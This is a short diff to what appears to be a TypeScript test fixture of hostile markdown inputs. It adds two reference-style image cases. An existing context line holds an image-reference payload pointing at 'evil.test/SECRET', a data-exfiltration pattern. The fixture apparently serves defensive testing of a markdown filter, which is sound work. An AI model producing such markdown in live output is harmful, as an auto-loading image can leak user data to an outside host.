@@ -74,6 +74,8 @@ export const hostile: Readonly<Record<Exclude<TextFault['rule'], 'qualifier'>, r
     '![b]',
     'vec![1]\n\n[1]: https://github.com/i.png',
     'vec![1][2]',
+    'vec![1]\n\n> - [1]: https://github.com/i.png',
+    'vec![a\nb]\n\n[a\nb]: https://github.com/i.png',
     'x![[page]]',
     '[![a](x)](y)',
     '[a][1]\n\n[1]: https://evil.test/SECRET\n![b][1]',
